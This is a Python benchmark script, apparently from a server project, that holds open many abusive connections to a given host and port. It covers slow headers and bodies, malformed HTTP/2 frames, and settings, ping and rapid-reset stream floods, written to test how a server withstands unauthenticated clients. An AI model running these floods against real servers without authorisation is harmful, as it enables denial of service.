"""What clients without credentials send that never become useful: idle, slow and malformed ones, and floods.

    python bench/meet/attackers.py HOST:PORT KIND COUNT

keeps that many connections of this kind open, and opens another for each that is ended, until it is killed. On its
input it answers each line with how many it has opened.
"""

from __future__ import annotations

import contextlib
import resource
import selectors
import socket
import sys
from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

_AT_ONCE = 200  # new connections between two looks at the others
_LAST_STREAM = 2**31 - 1000

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\x04\0\0\0\0\0"
_RESET = b"\0\0\0\x08"
_BEGIN = PREFACE + SETTINGS


def _frame(kind: int, flags: int, stream: int, data: bytes) -> bytes:
    return len(data).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + data


def _field(name: str, value: str) -> bytes:
    """A header of HTTP/2, without compression."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


_CALL = b"".join(
    _field(*pair)
    for pair in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/grpc.health.v1.Health/Watch"),
        (":authority", "a"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)


def _streams(until: int) -> bytes:
    """Calls with one empty request each, that are not closed."""
    return b"".join(_frame(1, 4, n, _CALL) + _frame(0, 1, n, bytes(5)) for n in range(1, until, 2))


def _resets(turn: int) -> bytes:
    """Calls that are taken back at once."""
    first = 1 + 100 * turn
    return b"".join(_frame(1, 4, n, _CALL) + _frame(3, 0, n, _RESET) for n in range(first, first + 100, 2))


@dataclass(frozen=True)
class Kind:
    first: bytes
    again: Callable[[int], bytes] | None = None  # what follows, by turn, for as long as it is let
    leaves: bool = False  # right after `first`, and comes back

    def next(self, turn: int) -> bytes:
        return self.first if turn == 0 else self.again(turn - 1) if self.again is not None else b""


KINDS = {
    "silent": Kind(b""),
    "comes and goes": Kind(b"", leaves=True),
    "slow header": Kind(b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ", lambda _: b"y"),
    "slow body": Kind(
        b"POST /api/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{"
    ),
    "half a preface": Kind(PREFACE[:10]),
    "no stream": Kind(_BEGIN),
    "many settings": Kind(PREFACE + SETTINGS * 2000),
    "settings without an end": Kind(_BEGIN, lambda _: SETTINGS * 200),
    "no protocol": Kind(b"\x16\x03\x01 nothing that any of the ports speaks\r\n"),
    "half a header": Kind(_BEGIN + _frame(1, 0, 1, _CALL[:40])),
    "endless header": Kind(
        _BEGIN + _frame(1, 0, 1, _CALL) + _frame(9, 0, 1, _field("x", "y" * 99)) * 1000,
    ),
    "half streams": Kind(_BEGIN + b"".join(_frame(1, 4, n, _CALL) for n in range(1, 999, 2))),
    "half a message": Kind(_BEGIN + _frame(1, 4, 1, _CALL) + _frame(0, 0, 1, b"\0\0\x0f\0\0" + bytes(9000))),
    "streams without an end": Kind(_BEGIN + _streams(999)),
    "no window": Kind(PREFACE + _frame(4, 0, 0, b"\0\4\0\0\0\0") + _streams(999)),
    "pings": Kind(_BEGIN + _frame(6, 0, 0, bytes(8)) * 2000),
    "pings without an end": Kind(_BEGIN, lambda _: _frame(6, 0, 0, bytes(8)) * 100),
    "priorities": Kind(_BEGIN + _frame(2, 0, 1, b"\0\0\0\0\x10") * 2000),
    "window updates": Kind(_BEGIN + _frame(8, 0, 0, b"\0\0\0\1") * 2000),
    "reset streams": Kind(_BEGIN + _resets(0)),
    "resets without an end": Kind(_BEGIN, _resets),
}


class _Stranger:
    def __init__(self, where: tuple[str, int], kind: Kind) -> None:
        self.kind, self.turn, self.left = kind, 1, kind.first
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.connect_ex(where)

    def go_on(self) -> bool:
        """Read and write what is possible. False if the connection is over."""
        try:
            if not self.sock.recv(65536):
                return False
        except BlockingIOError:
            pass
        try:
            self.left = self.left[self.sock.send(self.left) :]
        except BlockingIOError:
            pass
        if not self.left and 100 * self.turn < _LAST_STREAM:
            self.left, self.turn = self.kind.next(self.turn), self.turn + 1
        return bool(self.left) or not self.kind.leaves

    @property
    def interest(self) -> int:
        return selectors.EVENT_READ | (selectors.EVENT_WRITE if self.left else 0)


def attack(where: tuple[str, int], kind: Kind, count: int) -> None:
    found, opened = selectors.DefaultSelector(), 0
    found.register(sys.stdin, selectors.EVENT_READ)
    while True:
        for _ in range(min(_AT_ONCE, count + 1 - len(found.get_map()))):
            stranger = _Stranger(where, kind)
            found.register(stranger.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, stranger)
            opened += 1
        for key, _ in found.select(0.01):
            if key.data is None:
                if not sys.stdin.readline():
                    return
                print(opened, flush=True)
                continue
            goes_on = False
            with contextlib.suppress(OSError):
                goes_on = key.data.go_on()
            if goes_on:
                found.modify(key.data.sock, key.data.interest, key.data)
            else:
                found.unregister(key.data.sock)
                key.data.sock.close()


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    host, _, port = sys.argv[1].rpartition(":")
    attack((host, int(port)), KINDS[sys.argv[2]], int(sys.argv[3]))
